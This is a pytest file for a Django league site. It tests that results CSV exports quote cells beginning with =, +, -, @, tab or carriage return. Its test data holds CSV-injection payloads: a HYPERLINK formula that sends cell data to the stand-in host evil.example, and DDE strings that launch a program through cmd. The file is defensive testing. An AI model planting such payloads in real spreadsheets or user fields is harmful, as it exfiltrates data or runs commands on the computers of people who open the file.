"""Exports are safe in spreadsheets (issue 36, OWASP's CSV injection): the results CSV wrote
`=HYPERLINK(...)`, `+cmd|...` and `@SUM(...)` raw, and a guest's name may hold them. Every text cell that starts
with =, +, -, @, a tab or a carriage return is written with a single quote in front; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.utils import timezone

from leagues.club.clubs import club_member_add
from leagues.people.players import player_for_user, player_guest_create
from leagues.result import results
from shitenno_site.spreadsheets import FORMULA_STARTS, csv_writer, spreadsheet_cell

ATTACKS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def _written(row: list) -> list[str]:
    out = io.StringIO()
    csv_writer(out).writerow(row)
    return next(csv.reader(io.StringIO(out.getvalue(), newline="")))


def test_every_dangerous_first_character_has_an_attack_here():
    assert set(ATTACKS) == set(FORMULA_STARTS)


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_a_text_cell_starting_with_it_is_written_as_text(start):
    attack = ATTACKS[start]
    assert _written([attack]) == ["'" + attack]


@pytest.mark.parametrize("text", ["Alice", "Uncle Ken", "1-0", "a=b", "e@mail", " =1", "'quoted", "", "東京"])
def test_other_text_is_written_as_it_is(text):
    assert _written([text]) == [text]


def test_numbers_stay_numbers_even_negative_ones():
    assert _written([-3, -2.5, 0, 7]) == ["-3", "-2.5", "0", "7"]
    assert spreadsheet_cell(-3) == -3


@pytest.mark.django_db
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_the_results_export_quotes_a_guest_and_a_game_named_like_a_formula(club, alice, start):
    attack = ATTACKS[start]
    guest = player_guest_create(name=attack, created_by=alice)
    club_member_add(club=club, player=guest, user=alice)
    results.result_enter(
        game=attack,
        played_on=timezone.localdate(),
        user=alice,
        club=club,
        entries=[
            {"player": player_for_user(alice), "rank": 1, "score": -4.5},
            {"player": guest, "rank": 2, "score": -6},
        ],
    )
    out = io.StringIO()
    call_command("export_results_csv", club.slug, stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    guest_row = next(r for r in rows[1:] if r[6] == "'" + attack)
    assert guest_row[1] == "'" + attack  # the game's name
    assert guest_row[8] == "-6"  # a score is a number (a whole one without ".0")
    formula_like = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert formula_like and all(float(cell) < 0 for cell in formula_like)  # only the negative scores
